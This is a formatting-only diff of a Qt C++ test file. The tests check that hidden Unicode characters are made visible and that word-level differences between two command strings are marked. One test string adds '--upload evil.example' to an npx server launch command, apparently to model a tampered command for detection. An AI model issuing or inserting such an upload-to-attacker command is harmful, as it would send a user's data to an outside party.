@@ -42,7 +42,8 @@ private Q_SLOTS:
         QTest::newRow("line separator") << u"a\u2028b"_s << u"a⟨U+2028⟩b"_s;
         QTest::newRow("hangul filler") << u"a\u3164b"_s << u"a⟨U+3164⟩b"_s;
         QTest::newRow("soft hyphen") << u"a\u00ADb"_s << u"a⟨U+00AD⟩b"_s;
-        QTest::newRow("tag") << QString(u"a"_s + QString::fromUcs4(U"\U000E0041", 1)) << u"a⟨U+E0041⟩"_s;
+        QTest::newRow("tag") << QString(u"a"_s + QString::fromUcs4(U"\U000E0041", 1))
+                             << u"a⟨U+E0041⟩"_s;
         QTest::newRow("lone surrogate") << QString(QChar(0xD800)) << u"⟨U+D800⟩"_s;
         QTest::newRow("empty") << QString() << QString();
     }
@@ -66,8 +67,8 @@ private Q_SLOTS:
 
     void differencesAreMarkedWordByWord()
     {
-        const TextDifference difference
-            = differenceOf(u"npx -y server-github"_s, u"npx -y server-github --upload evil.example"_s);
+        const TextDifference difference = differenceOf(
+            u"npx -y server-github"_s, u"npx -y server-github --upload evil.example"_s);
         QVERIFY(differing(difference.before).isEmpty());
         QCOMPARE(differing(difference.after), QStringList({u"--upload evil.example"_s}));
         QCOMPARE(joined(difference.after), u"npx -y server-github --upload evil.example"_s);
